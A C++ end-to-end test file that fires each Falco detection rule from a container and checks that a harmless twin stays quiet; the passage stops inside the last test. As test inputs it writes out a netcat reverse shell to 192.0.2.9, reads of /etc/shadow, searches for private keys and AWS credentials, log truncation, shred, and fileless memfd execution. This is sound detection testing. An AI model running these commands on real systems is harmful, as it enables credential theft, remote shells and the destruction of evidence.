@@ -1,0 +1,703 @@
+// Each rule of Falco's falco_rules.yaml, unmodified, with the real agent: a program in a container does what the rule
+// is about, and its fields are what the program did; and a twin that differs in the one thing that the rule asks for
+// meets no rule. Facts of the container come from a runtime, and the API server's address from an API server, which the
+// test plays.
+#include <arpa/inet.h>
+#include <fcntl.h>
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+#include <linux/capability.h>
+#include <linux/if_packet.h>
+#include <net/ethernet.h>
+#include <netinet/in.h>
+#include <sys/ioctl.h>
+#include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/prctl.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <algorithm>
+#include <csignal>
+#include <set>
+
+#include "testbed/test_container.h"
+#include "tests/e2e_kube/container_cgroup.h"
+#include "tests/e2e_kube/kubernetes_fixture.h"
+
+namespace sluice::test {
+namespace {
+
+namespace fs = std::filesystem;
+using nlohmann::json;
+
+constexpr char kApiService[] = "10.96.0.1", kOtherService[] = "10.96.0.2";
+constexpr std::uint16_t kApiPort = 6443;
+
+// Beside Falco's: events that say how far the agent is.
+constexpr char kOwnRules[] = R"(
+- rule: Marker
+  desc: all that happened before has been looked at
+  condition: evt.type in (open, openat) and fd.name startswith {0}/marker-
+  output: "%fd.name"
+  priority: DEBUG
+- rule: Facts known
+  desc: what the runtime says of a container is known
+  condition: evt.type in (open, openat) and fd.name startswith {0}/marker- and container.privileged = true
+  output: "%container.image.repository"
+  priority: DEBUG
+- rule: Names known
+  desc: the API server's address has a name
+  condition: evt.type = connect and fd.sip.name = kubernetes.default.svc.cluster.local
+  output: "%fd.name"
+  priority: DEBUG
+)";
+
+// A container of pod shop/web.
+enum class Place {
+  kContainer,
+  kPrivileged,
+  kTrusted,  // its image is one that Falco's rules trust
+  kHost,     // in the pod's network namespace, but in no container
+};
+constexpr const char* kImages[] = {"registry.example:5000/shop/server:1.0", "registry.example:5000/shop/admin:1.0",
+                                   "prom/prometheus:v2"};
+constexpr const char* kContainerNames[] = {"server", "admin", "metrics"};
+
+// Where Act::programs are found by name.
+class Surroundings {
+ public:
+  Surroundings(std::string programs, std::string address, std::string other_address, const ContainerNotes& notes)
+      : programs_(std::move(programs)), api_(std::move(address)), other_(std::move(other_address)), notes_(notes) {}
+  std::string Program(const std::string& name) const { return name.starts_with('/') ? name : programs_ + "/" + name; }
+  const std::string& api_address() const { return api_; }      // of the API server itself
+  const std::string& other_address() const { return other_; }  // of a pod
+  const ContainerNotes& notes() const { return notes_; }
+
+ private:
+  std::string programs_, api_, other_;
+  const ContainerNotes& notes_;
+};
+
+using Body = std::function<void(const Surroundings&)>;
+
+struct Act {
+  Body body;
+  Place place = Place::kContainer;
+  NamedPrograms programs = {};
+};
+
+struct Trigger {
+  std::string rule;
+  Act does;
+  // Fields of the rule's output. "@key": what the program has noted. "*": any value but none.
+  std::map<std::string, std::string> fields;
+  Act twin;
+  std::vector<std::string> also = {};       // other rules that the act meets
+  std::vector<std::string> twin_also = {};  // other rules that the twin meets
+  std::string variant = {};                 // of several acts for one rule
+};
+
+void PrintTo(const Trigger& trigger, std::ostream* out) { *out << trigger.rule << trigger.variant; }
+
+// --- What programs do.
+
+void Execute(const std::string& file, const std::vector<std::string>& arguments) {
+  std::vector<char*> argv;
+  for (const std::string& argument : arguments) argv.push_back(const_cast<char*>(argument.c_str()));
+  argv.push_back(nullptr);
+  execv(file.c_str(), argv.data());
+  Check(false, file.c_str());
+}
+
+// Runs a program by its name or path, as a child; what it ends with does not matter.
+void RunChild(const Surroundings& here, const std::vector<std::string>& arguments) {
+  const pid_t child = fork();
+  if (child == 0) {
+    // What it writes is no matter of the test's.
+    const int null = open("/dev/null", O_RDWR);
+    for (int fd = 0; fd <= 2; ++fd) dup2(null, fd);
+    Execute(here.Program(arguments[0]), arguments);
+  }
+  int status = 0;
+  Check(waitpid(child, &status, 0) == child && WIFEXITED(status) && WEXITSTATUS(status) < 100, arguments[0].c_str());
+}
+
+Body Runs(std::vector<std::string> arguments) {
+  return [arguments = std::move(arguments)](const Surroundings& here) { RunChild(here, arguments); };
+}
+
+Body Opens(std::string path, int flags, int error = 0) {
+  return [path = std::move(path), flags, error](const Surroundings&) {
+    const int fd = open(path.c_str(), flags, 0644);
+    Check(error == 0 ? fd >= 0 : fd < 0 && errno == error, path.c_str());
+  };
+}
+
+// From those that are in effect.
+void DropCapability(std::uint32_t capability) {
+  __user_cap_header_struct header{.version = _LINUX_CAPABILITY_VERSION_3, .pid = 0};
+  __user_cap_data_struct sets[_LINUX_CAPABILITY_U32S_3];
+  Check(syscall(SYS_capget, &header, sets) == 0, "capget");
+  sets[CAP_TO_INDEX(capability)].effective &= ~CAP_TO_MASK(capability);
+  Check(syscall(SYS_capset, &header, sets) == 0, "capset");
+}
+
+sockaddr_in AddressOf(const std::string& address, std::uint16_t port) {
+  sockaddr_in out{};
+  out.sin_family = AF_INET;
+  out.sin_port = htons(port);
+  Check(inet_pton(AF_INET, address.c_str(), &out.sin_addr) == 1, address.c_str());
+  return out;
+}
+
+// Does not wait for an answer. The port that it is from.
+std::uint16_t BeginConnection(int fd, const std::string& address, std::uint16_t port) {
+  const sockaddr_in to = AddressOf(address, port);
+  Check(connect(fd, reinterpret_cast<const sockaddr*>(&to), sizeof(to)) == 0 || errno == EINPROGRESS, "connect");
+  sockaddr_in from{};
+  socklen_t size = sizeof(from);
+  Check(getsockname(fd, reinterpret_cast<sockaddr*>(&from), &size) == 0, "getsockname");
+  return ntohs(from.sin_port);
+}
+
+Body ConnectsTo(std::function<std::string(const Surroundings&)> address, std::uint16_t port) {
+  return [address = std::move(address), port](const Surroundings& here) {
+    const int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
+    here.notes().Note("port", std::to_string(BeginConnection(fd, address(here), port)));
+  };
+}
+std::string ApiServer(const Surroundings& here) { return here.api_address(); }
+std::string OtherPod(const Surroundings& here) { return here.other_address(); }
+std::string ApiService(const Surroundings&) { return kApiService; }
+
+// A connection to itself, whose socket becomes descriptor `number`.
+Body RedirectsTo(int number) {
+  return [number](const Surroundings&) {
+    const int listener = socket(AF_INET, SOCK_STREAM, 0);
+    const sockaddr_in at = AddressOf("127.0.0.1", 4444);
+    const int yes = 1;
+    Check(setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof(yes)) == 0, "reuse");
+    Check(bind(listener, reinterpret_cast<const sockaddr*>(&at), sizeof(at)) == 0, "bind");
+    Check(listen(listener, 1) == 0, "listen");
+    const int client = socket(AF_INET, SOCK_STREAM, 0);
+    Check(connect(client, reinterpret_cast<const sockaddr*>(&at), sizeof(at)) == 0, "connect");
+    Check(syscall(SYS_dup3, client, number, 0) == number, "dup3");
+  };
+}
+
+Body MakesSocket(int domain, int type, int protocol) {
+  return [=](const Surroundings&) { Check(socket(domain, type, protocol) >= 0, "socket"); };
+}
+
+// Of no use to any kernel.
+void LoadModule(const Surroundings& here) {
+  const char junk[64] = "no module";
+  const long result = syscall(SYS_init_module, junk, sizeof(junk), "");
+  here.notes().Note("res", result == 0 ? "SUCCESS" : strerrorname_np(errno));
+}
+
+void Trace(enum __ptrace_request request) {
+  const pid_t child = fork();
+  if (child == 0) {
+    pause();
+    _exit(0);
+  }
+  const long result = ptrace(request, child, nullptr, nullptr);
+  Check(result == 0 || request == PTRACE_PEEKTEXT, "ptrace");
+  kill(child, SIGKILL);
+  waitpid(child, nullptr, __WALL);
+}
+
+// A terminal of the container's own, which the program has; `program` is the parent of a shell.
+Body RunsShellAt(bool terminal, const std::string& program) {
+  return [terminal, program](const Surroundings& here) {
+    const pid_t child = fork();
+    if (child == 0) {
+      Check(setsid() > 0, "a session");
+      if (terminal) {
+        const int master = open("/dev/ptmx", O_RDWR | O_NOCTTY);
+        Check(master >= 0 && grantpt(master) == 0 && unlockpt(master) == 0, "a terminal");
+        const int slave = open(ptsname(master), O_RDWR | O_NOCTTY);
+        struct stat info {};
+        Check(slave >= 0 && ioctl(slave, TIOCSCTTY, 0) == 0 && fstat(slave, &info) == 0, "the terminal");
+        here.notes().Note("tty", std::to_string(info.st_rdev));
+      }
+      Execute(here.Program(program), {program, "-c", "/bin/sh -c 'exit 0'; :"});
+    }
+    int status = 0;
+    Check(waitpid(child, &status, 0) == child && status == 0, program.c_str());
+  };
+}
+
+// A copy of a program where nothing of the image is.
+Body DropsAndRuns(const std::string& path) {
+  return [path](const Surroundings& here) {
+    fs::copy_file("/bin/true", path);
+    struct stat info {};
+    Check(stat(path.c_str(), &info) == 0, path.c_str());
+    here.notes().Note("ctime", std::to_string(info.st_ctim.tv_sec * 1'000'000'000LL + info.st_ctim.tv_nsec));
+    RunChild(here, {path, "dropped"});
+  };
+}
+
+// Runs cat, which tells what the kernel calls it, by a descriptor: of a file in memory, or of the program's own.
+Body RunsByDescriptor(const std::string& memory) {
+  return [memory](const Surroundings& here) {
+    int program = open("/bin/cat", O_RDONLY | O_CLOEXEC);
+    if (!memory.empty()) {
+      const int copy = memfd_create(memory.c_str(), MFD_CLOEXEC);
+      char bytes[1 << 16];
+      for (ssize_t size; (size = read(program, bytes, sizeof(bytes))) > 0;)
+        Check(write(copy, bytes, static_cast<std::size_t>(size)) == size, "a copy");
+      program = copy;
+    }
+    int ends[2];
+    Check(pipe(ends) == 0, "pipe");
+    const pid_t child = fork();
+    if (child == 0) {
+      dup2(ends[1], STDOUT_FILENO);
+      const char* const arguments[] = {"cat", "/proc/self/comm", nullptr};
+      fexecve(program, const_cast<char**>(arguments), environ);
+      Check(false, "fexecve");
+    }
+    close(ends[1]);
+    char name[64] = "";
+    const ssize_t size = read(ends[0], name, sizeof(name) - 1);
+    Check(size > 1, "its name");
+    name[size - 1] = '\0';
+    here.notes().Note("name", name);
+    waitpid(child, nullptr, 0);
+  };
+}
+
+// Both paths on the container's own file system.
+Body Links(int (*how)(const char*, const char*), const std::string& target) {
+  return [how, target](const Surroundings&) { Check(how(target.c_str(), "/var/tmp/link") == 0, target.c_str()); };
+}
+
+Body Greps(const std::string& text) { return Runs({"/bin/grep", "-r", text, "/etc/hostname"}); }
+
+// Connects a socket that does not wait, in Perl: the program is known by the name that it is given.
+Body SshTo(std::uint16_t port) {
+  return Runs({"ssh", "-e",
+               fmt::format("use Socket; socket(S, AF_INET, SOCK_STREAM | 2048, 0) or exit 101; connect(S, "
+                           "pack_sockaddr_in({}, inet_aton('198.51.100.7'))) or $!{{EINPROGRESS}} or exit 102;",
+                           port)});
+}
+
+const NamedPrograms kSsh = {{"ssh", "/usr/bin/perl"}};
+
+std::string Self() {
+  char name[17] = "";
+  prctl(PR_GET_NAME, name);
+  return name;
+}
+
+std::vector<Trigger> Triggers() {
+  const std::string untrusted = "Read sensitive file untrusted";
+  const std::string dropped = "/usr/local/bin/dropped";
+  std::vector<Trigger> all = {
+      {.rule = "Directory traversal monitored file read",
+       .does = {Opens("/usr/lib/../../etc/passwd", O_RDONLY)},
+       .fields = {{"fd.name", "/etc/passwd"},
+                  {"fd.nameraw", "/usr/lib/../../etc/passwd"},
+                  {"evt.type", "openat"},
+                  {"proc.name", Self()}},
+       .twin = {Opens("/usr/../etc/passwd", O_RDONLY)}},
+      {.rule = "Directory traversal monitored file read",
+       .does = {Opens("/usr/lib/../../etc/not-there", O_RDONLY, ENOENT)},
+       .fields = {{"fd.name", "/etc/not-there"}, {"fd.nameraw", "/usr/lib/../../etc/not-there"}},
+       .twin = {Opens("/usr/lib/../../srv/not-there", O_RDONLY, ENOENT)},
+       .variant = "Failed"},
+      {.rule = "Read sensitive file trusted after startup",
+       .does = {Runs({"nginx", "-c", "read x </etc/shadow; /bin/sleep 5.1; read x </etc/shadow"}),
+                Place::kContainer,
+                {{"nginx", "/bin/sh"}}},
+       .fields = {{"fd.name", "/etc/shadow"},
+                  {"proc.name", "nginx"},
+                  {"proc.exepath", "/usr/local/bin/nginx"},
+                  {"proc.pname", Self()}},
+       .twin = {Runs({"nginx", "-c", "read x </etc/shadow"}), Place::kContainer, {{"nginx", "/bin/sh"}}},
+       .also = {untrusted, untrusted},
+       .twin_also = {untrusted}},
+      {.rule = untrusted,
+       .does = {Runs({"/bin/cat", "/etc/shadow"})},
+       .fields = {{"fd.name", "/etc/shadow"}, {"proc.name", "cat"}, {"proc.cmdline", "cat /etc/shadow"}},
+       .twin = {Runs({"iptables", "/etc/shadow"}), Place::kContainer, {{"iptables", "/bin/cat"}}}},
+      {.rule = "Run shell untrusted",
+       .does = {Runs({"nginx", "-c", "/bin/sh -c 'exit 0'; :"}), Place::kContainer, {{"nginx", "/bin/sh"}}},
+       .fields = {{"proc.name", "sh"},
+                  {"proc.cmdline", "sh -c exit 0"},
+                  {"proc.pname", "nginx"},
+                  {"proc.pexepath", "/usr/local/bin/nginx"},
+                  {"proc.pcmdline", "nginx -c /bin/sh -c 'exit 0'; :"},
+                  {"proc.aname[2]", Self()},
+                  {"evt.type", "execve"}},
+       .twin = {Runs({"gateway", "-c", "/bin/sh -c 'exit 0'; :"}), Place::kContainer, {{"gateway", "/bin/sh"}}}},
+      {.rule = "System user interactive",
+       .does = {Runs({"sshd", "-c", "/usr/bin/setpriv --reuid=33 --clear-groups /bin/true; :"}),
+                Place::kHost,
+                {{"sshd", "/bin/sh"}}},
+       .fields = {{"user.name", "www-data"}, {"user.uid", "33"}, {"proc.name", "true"}, {"proc.pname", "sshd"}},
+       .twin = {Runs({"sshd", "-c", "/usr/bin/setpriv --reuid=0 --clear-groups /bin/true; :"}),
+                Place::kHost,
+                {{"sshd", "/bin/sh"}}}},
+      {.rule = "Terminal shell in container",
+       .does = {RunsShellAt(true, "containerd-shim"), Place::kContainer, {{"containerd-shim", "/bin/sh"}}},
+       .fields = {{"proc.tty", "@tty"}, {"proc.name", "sh"}, {"proc.pname", "containerd-shim"}},
+       .twin = {RunsShellAt(false, "containerd-shim"), Place::kContainer, {{"containerd-shim", "/bin/sh"}}}},
+      {.rule = "Contact K8S API Server From Container",
+       .does = {ConnectsTo(ApiServer, kApiPort)},
+       .fields = {{"evt.type", "connect"},
+                  {"fd.type", "ipv4"},
+                  {"fd.l4proto", "tcp"},
+                  {"fd.lport", "@port"},
+                  {"fd.rport", std::to_string(kApiPort)}},
+       .twin = {ConnectsTo(OtherPod, kApiPort)},
+       .also = {"Names known"}},
+      {.rule = "Contact K8S API Server From Container",
+       .does = {ConnectsTo(ApiService, 443)},
+       .fields = {{"evt.type", "connect"}, {"fd.lport", "@port"}},
+       .twin = {ConnectsTo(ApiServer, kApiPort), Place::kTrusted},
+       .also = {"Names known"},
+       .twin_also = {"Names known"},
+       .variant = "ByItsService"},
+      {.rule = "Netcat Remote Code Execution in Container",
+       .does = {Runs({"nc", "-e", "/bin/sh", "192.0.2.9", "4444"}), Place::kContainer, {{"nc", "/bin/true"}}},
+       .fields = {{"proc.name", "nc"}, {"proc.cmdline", "nc -e /bin/sh 192.0.2.9 4444"}},
+       .twin = {Runs({"nc", "192.0.2.9", "4444"}), Place::kContainer, {{"nc", "/bin/true"}}}},
+      {.rule = "Search Private Keys or Passwords",
+       .does = {Greps("BEGIN RSA PRIVATE")},
+       .fields = {{"proc.name", "grep"}, {"proc.cmdline", "grep -r BEGIN RSA PRIVATE /etc/hostname"}},
+       .twin = {Greps("BEGIN CERTIFICATE")}},
+      {.rule = "Search Private Keys or Passwords",
+       .does = {Runs({"/usr/bin/find", "/srv", "-name", "id_rsa"})},
+       .fields = {{"proc.name", "find"}, {"proc.cmdline", "find /srv -name id_rsa"}},
+       .twin = {Runs({"/usr/bin/find", "/srv", "-name", "readme"})},
+       .variant = "ByFind"},
+      {.rule = "Clear Log Activities",
+       .does = {Opens("/var/log/syslog", O_WRONLY | O_CREAT | O_TRUNC)},
+       .fields = {{"fd.name", "/var/log/syslog"}, {"evt.type", "openat"}},
+       .twin = {Opens("/var/log/syslog", O_WRONLY | O_CREAT | O_APPEND)}},
+      {.rule = "Remove Bulk Data from Disk",
+       .does = {Runs({"/usr/bin/shred", "-u", "/srv/not-there"})},
+       .fields = {{"proc.name", "shred"}, {"proc.cmdline", "shred -u /srv/not-there"}},
+       .twin = {Runs({"/bin/rm", "-f", "/srv/not-there"})}},
+      {.rule = "Create Symlink Over Sensitive Files",
+       .does = {Links(symlink, "/etc/shadow")},
+       .fields = {{"evt.arg.target", "/etc/shadow"}, {"evt.arg.linkpath", "/var/tmp/link"}, {"proc.name", Self()}},
+       .twin = {Links(symlink, "/etc/hostname")}},
+      {.rule = "Create Hardlink Over Sensitive Files",
+       .does = {Links(link, "/etc/shadow")},
+       .fields = {{"evt.arg.oldpath", "/etc/shadow"}, {"evt.arg.newpath", "/var/tmp/link"}, {"proc.name", Self()}},
+       .twin = {Links(link, "/etc/passwd")}},
+      {.rule = "Packet socket created in container",
+       .does = {MakesSocket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL))},
+       .fields = {{"evt.type", "socket"}, {"evt.args", "*"}, {"proc.name", Self()}},
+       .twin = {MakesSocket(AF_INET, SOCK_RAW, IPPROTO_ICMP)}},
+      {.rule = "Packet socket created in container",
+       .does = {MakesSocket(AF_PACKET, SOCK_DGRAM, 0)},
+       .fields = {{"evt.type", "socket"}},
+       .twin = {MakesSocket(AF_PACKET, SOCK_DGRAM, 0), Place::kHost},
+       .variant = "NotOnTheHost"},
+      {.rule = "Redirect STDOUT/STDIN to Network Connection in Container",
+       .does = {RedirectsTo(STDIN_FILENO)},
+       .fields = {{"evt.type", "dup3"},
+                  {"fd.sip", "127.0.0.1"},
+                  {"fd.rport", "4444"},
+                  {"fd.type", "ipv4"},
+                  {"fd.l4proto", "tcp"}},
+       .twin = {RedirectsTo(200)}},
+      {.rule = "Linux Kernel Module Injection Detected",
+       .does = {LoadModule},
+       .fields = {{"evt.type", "init_module"}, {"evt.res", "@res"}, {"proc.name", Self()}},
+       .twin = {[](const Surroundings& here) {
+         DropCapability(CAP_SYS_MODULE);
+         LoadModule(here);
+       }}},
+      {.rule = "Debugfs Launched in Privileged Container",
+       .does = {Runs({"debugfs", "-V"}), Place::kPrivileged, {{"debugfs", "/bin/true"}}},
+       .fields = {{"proc.name", "debugfs"}, {"proc.exepath", "/usr/local/bin/debugfs"}},
+       .twin = {Runs({"debugfs", "-V"}), Place::kContainer, {{"debugfs", "/bin/true"}}}},
+      {.rule = "Detect release_agent File Container Escapes",
+       .does = {Opens("/tmp/release_agent", O_WRONLY | O_CREAT)},
+       .fields = {{"fd.name", "/tmp/release_agent"}, {"thread.cap_effective", "*"}},
+       .twin = {[](const Surroundings& here) {
+         DropCapability(CAP_SYS_ADMIN);
+         Opens("/tmp/release_agent", O_WRONLY | O_CREAT)(here);
+       }}},
+      {.rule = "PTRACE attached to process",
+       .does = {[](const Surroundings&) { Trace(PTRACE_ATTACH); }},
+       .fields = {{"evt.type", "ptrace"}, {"proc.name", Self()}},
+       .twin = {[](const Surroundings&) { Trace(PTRACE_PEEKTEXT); }}},
+      {.rule = "PTRACE anti-debug attempt",
+       .does = {[](const Surroundings&) { Check(ptrace(PTRACE_TRACEME, 0, nullptr, nullptr) == 0, "ptrace"); }},
+       .fields = {{"evt.type", "ptrace"}, {"proc.name", Self()}},
+       .twin = {[](const Surroundings&) { ptrace(PTRACE_PEEKTEXT, 0, nullptr, nullptr); }}},
+      {.rule = "Find AWS Credentials",
+       .does = {Greps("aws_access_key_id")},
+       .fields = {{"proc.name", "grep"},
+                  {"proc.cmdline", "grep -r aws_access_key_id /etc/hostname"},
+                  {"proc.cwd", "/"}},
+       .twin = {Greps("aws_region")}},
+      {.rule = "Find AWS Credentials",
+       .does = {Runs({"/usr/bin/find", "/srv", "-wholename", "*/.aws/credentials"})},
+       .fields = {{"proc.cmdline", "find /srv -wholename */.aws/credentials"}},
+       .twin = {Runs({"/usr/bin/find", "/srv", "-wholename", "*/.aws/config"})},
+       .variant = "ByFind"},
+      {.rule = "Execution from /dev/shm",
+       .does = {DropsAndRuns("/dev/shm/dropped")},
+       .fields = {{"proc.name", "dropped"}, {"proc.exepath", "/dev/shm/dropped"}, {"evt.res", "SUCCESS"}},
+       .twin = {DropsAndRuns("/run/dropped")}},
+      {.rule = "Drop and execute new binary in container",
+       .does = {DropsAndRuns(dropped)},
+       .fields = {{"proc.exe", dropped},
+                  {"proc.exepath", dropped},
+                  {"proc.name", "dropped"},
+                  {"proc.exe_ino.ctime", "@ctime"},
+                  {"container.start_ts", "*"}},
+       .twin = {Runs({"from-image"}), Place::kContainer, {{"from-image", "/bin/true"}}}},
+      {.rule = "Disallowed SSH Connection Non Standard Port",
+       .does = {SshTo(443), Place::kContainer, kSsh},
+       .fields = {{"evt.type", "connect"}, {"fd.rport", "443"}, {"fd.l4proto", "tcp"}, {"proc.name", "ssh"}},
+       .twin = {SshTo(22), Place::kContainer, kSsh}},
+      {.rule = "Fileless execution via memfd_create",
+       .does = {RunsByDescriptor("payload")},
+       .fields = {{"proc.exepath", "memfd:payload"},
+                  {"proc.name", "@name"},
+                  {"evt.res", "SUCCESS"},
+                  {"container.start_ts", "*"}},
+       .twin = {RunsByDescriptor("")}},
+      {.rule = "Fileless execution via memfd_create",
+       .does = {RunsByDescriptor("payload")},
+       .fields = {{"proc.exepath", "memfd:payload"}},
+       .twin = {RunsByDescriptor("runc_cloned:/proc/self/exe")},
+       .variant = "ButNotRuncsOwn"},
+  };
+  return all;
+}
+
+// --- The agent that all triggers are seen by.
+
+std::string FalcoRules() {
+  const char* const corpora = std::getenv("SLUICE_CORPORA");
+  return corpora == nullptr ? "" : std::string(corpora) + "/falco-rules/rules/falco_rules.yaml";
+}
+
+class Cluster : public KubernetesFixture {
+ public:
+  void TestBody() override {}
+
+  // Its failures are the test's.
+  void Begin() {
+    SetUp();
+    if (IsSkipped() || HasFatalFailure()) return;
+    std::ofstream(directory_ + "/own.yaml") << fmt::format(kOwnRules, directory_);
+    more_arguments_ = {"--rules",       FalcoRules(), "--rules",      directory_ + "/own.yaml",
+                       "--rules-match", "all",        "--rules-rate", "0"};
+    ASSERT_NO_FATAL_FAILURE(Start());
+    auto api =
+        ProbeServers::Start({{.netns_fd = fixture_->netns_fd("db"), .protocol = policy::kTcp, .port = kApiPort}});
+    ASSERT_TRUE(api.ok()) << api.status();
+    api_server_ = *std::move(api);
+    PutService("kubernetes", "default", kApiService, "db");
+    PutService("other", "shop", kOtherService, "new");
+    for (const char* const one : {"/box", "/programs"}) fs::create_directory(directory_ + one);
+    ASSERT_TRUE(Eventually([&] {
+      Mark(Place::kPrivileged);
+      return Has("Facts known");
+    })) << Log();
+    ASSERT_TRUE(Eventually([&] {
+      ConnectOnHost();
+      Mark(Place::kHost);
+      return Has("Names known");
+    })) << Log();
+    HitsUntilNow();
+    std::set<std::string> tried = {"Marker", "Facts known", "Names known"};
+    for (const Trigger& trigger : Triggers()) tried.insert(trigger.rule);
+    EXPECT_EQ(RulesInForce(), tried) << "each rule of the file is tried";
+  }
+
+  std::map<std::string, std::string> Run(const Act& act) {
+    TestContainer container{.netns_fd = fixture_->netns_fd("web"),
+                            .cgroup = {},
+                            .directory = directory_ + "/box",
+                            .programs = act.programs};
+    std::string programs = "/usr/local/bin";
+    if (act.place == Place::kHost) {
+      programs = directory_ + "/programs";
+      for (const auto& [name, from] : act.programs)
+        fs::copy_file(from, programs + "/" + name, fs::copy_options::overwrite_existing);
+    } else {
+      container.cgroup = cgroups_.Directory(IdOf(act.place));
+    }
+    const std::string api = fixture_->ip4("db").ToString(), other = fixture_->ip4("new").ToString();
+    const auto notes =
+        RunInContainer(container, [&](const ContainerNotes& to) { act.body(Surroundings(programs, api, other, to)); });
+    EXPECT_TRUE(notes.ok()) << notes.status();
+    return notes.value_or(std::map<std::string, std::string>());
+  }
+
+  // Detections of the pod since the last call, but for markers.
+  std::vector<json> HitsUntilNow() {
+    const std::string marker = Mark(Place::kHost);
+    std::vector<json> all;
+    const auto is_marker = [&](const json& hit) { return hit["rule"] == "Marker" && hit["output"] == marker; };
+    EXPECT_TRUE(Eventually([&] {
+      all = Detections();
+      return std::any_of(all.begin(), all.end(), is_marker);
+    })) << Log();
+    std::vector<json> hits;
+    for (std::size_t i = std::min(seen_, all.size()); i < all.size(); ++i) {
+      if (all[i]["rule"] != "Marker" && all[i]["rule"] != "Facts known") hits.push_back(all[i]);
+    }
+    seen_ = all.size();
+    return hits;
+  }
+
+  static std::string IdOf(Place place) { return Id(static_cast<char>('a' + static_cast<int>(place))); }
+  std::string Log() const { return fixture_->agent().Log(); }
+  std::set<std::string> RulesInForce() const {
+    std::set<std::string> names;
+    const json status = json::parse(Sluice({"status", "-o", "json"}));
+    for (const json& rule : status["detectionRules"]["rules"]) names.insert(rule["rule"]);
+    return names;
+  }
+
+ private:
+  void Prepare(TestNode&) override {
+    for (const Place place : {Place::kContainer, Place::kPrivileged, Place::kTrusted}) {
+      const auto number = static_cast<std::size_t>(place);
+      runtime_.AddContainer(IdOf(place), "sandbox-web", kContainerNames[number], 0);
+      runtime_.SetFacts(IdOf(place), kImages[number], place == Place::kPrivileged);
+    }
+  }
+
+  void PutService(const std::string& name, const std::string& ns, const std::string& address, const std::string& pod) {
+    api_->Put(kServices, fmt::format(R"({{"metadata": {{"name": "{0}", "namespace": "{1}", "uid": "s-{0}"}}, "spec":
+                  {{"clusterIP": "{2}", "clusterIPs": ["{2}"], "ports": [{{"name": "https", "port": 443, "protocol":
+                  "TCP"}}]}}}})",
+                                     name, ns, address));
+    api_->Put(kSlices, fmt::format(R"({{"metadata": {{"name": "{0}-1", "namespace": "{1}", "labels":
+                  {{"kubernetes.io/service-name": "{0}"}}}}, "addressType": "IPv4", "endpoints": [{{"addresses":
+                  ["{2}"], "conditions": {{"ready": true}}}}], "ports": [{{"name": "https", "port": {3}, "protocol":
+                  "TCP"}}]}})",
+                                   name, ns, fixture_->ip4(pod).ToString(), kApiPort));
+  }
+
+  // Opens a file that the rule Marker is about; its name.
+  std::string Mark(Place place) {
+    const std::string path = fmt::format("{}/marker-{}", directory_, ++markers_);
+    Run({[&path](const Surroundings&) { open(path.c_str(), O_RDONLY); }, place});
+    return path;
+  }
+  void ConnectOnHost() {
+    Run({[](const Surroundings& here) {
+           BeginConnection(socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), here.api_address(), kApiPort);
+         },
+         Place::kHost});
+  }
+  std::vector<json> Detections() const {
+    std::vector<json> found;
+    std::istringstream lines(
+        Sluice({"observe", "--all", "--host", "--type", "detection", "--workload", "shop/web", "-o", "json"}));
+    for (std::string line; std::getline(lines, line);) found.push_back(json::parse(line));
+    return found;
+  }
+  bool Has(const std::string& rule) const {
+    const auto all = Detections();
+    return std::any_of(all.begin(), all.end(), [&](const json& hit) { return hit["rule"] == rule; });
+  }
+
+  ContainerCgroups cgroups_;
+  std::unique_ptr<ProbeServers> api_server_;
+  std::size_t seen_ = 0;
+  int markers_ = 0;
+};
+
+class FalcoTriggers : public testing::TestWithParam<Trigger> {
+ protected:
+  static void TearDownTestSuite() { cluster_.reset(); }
+  void SetUp() override {
+    SL_REQUIRE_NETNS();
+    SL_REQUIRE_BPF();
+    if (cluster_ == nullptr) SL_SKIP_OR_FAIL_IF(ContainerCgroups().Missing());
+    if (!fs::exists(FalcoRules())) GTEST_SKIP() << "SLUICE_CORPORA names no directory with falco-rules";
+    if (cluster_ == nullptr) {
+      cluster_ = std::make_unique<Cluster>();
+      cluster_->Begin();
+      if (HasFatalFailure()) cluster_.reset();
+    }
+  }
+
+  static std::string FieldOf(const json& hit, const std::string& name) {
+    for (const json& field : hit["fields"]) {
+      if (field["name"] != name) continue;
+      for (const char* const kind : {"text", "uint64Value", "int64Value", "boolValue"}) {
+        if (!field.contains(kind)) continue;
+        return field[kind].is_string() ? field[kind].get<std::string>() : field[kind].dump();
+      }
+    }
+    return "";
+  }
+  static std::vector<std::string> RulesOf(const std::vector<json>& hits) {
+    std::vector<std::string> rules;
+    for (const json& hit : hits) rules.push_back(hit["rule"]);
+    return rules;
+  }
+
+  static inline std::unique_ptr<Cluster> cluster_;  // of the suite: an agent's start takes longer than a trigger
+};
+
+TEST_P(FalcoTriggers, HitOnceWithWhatWasDone) {
+  const Trigger& trigger = GetParam();
+  auto notes = cluster_->Run(trigger.does);
+  const std::vector<json> hits = cluster_->HitsUntilNow();
+  std::vector<std::string> expected = trigger.also;
+  expected.push_back(trigger.rule);
+  ASSERT_THAT(RulesOf(hits), testing::UnorderedElementsAreArray(expected)) << json(hits).dump(2);
+  const json& hit =
+      *std::find_if(hits.begin(), hits.end(), [&](const json& one) { return one["rule"] == trigger.rule; });
+  std::map<std::string, std::string> fields = trigger.fields;
+  fields.emplace("user.name", "root");
+  fields.emplace("user.uid", "0");
+  for (const auto& [name, value] : fields) {
+    const std::string got = FieldOf(hit, name);
+    if (value == "*")
+      EXPECT_NE(got, "") << name << " of " << hit;
+    else
+      EXPECT_EQ(got, value.starts_with('@') ? notes[value.substr(1)] : value) << name << " of " << hit;
+  }
+  EXPECT_EQ(hit["namespace"], "shop");
+  EXPECT_EQ(hit["workload"], "web");
+  const json& process = hit["process"];
+  if (trigger.does.place == Place::kHost) {
+    EXPECT_EQ(process.value("containerId", ""), "") << hit;
+  } else {
+    EXPECT_EQ(process.value("containerId", ""), Cluster::IdOf(trigger.does.place)) << hit;
+    EXPECT_EQ(process.value("containerName", ""), kContainerNames[static_cast<std::size_t>(trigger.does.place)]);
+  }
+}
+
+TEST_P(FalcoTriggers, SpareTheTwin) {
+  const Trigger& trigger = GetParam();
+  cluster_->Run(trigger.twin);
+  const std::vector<json> hits = cluster_->HitsUntilNow();
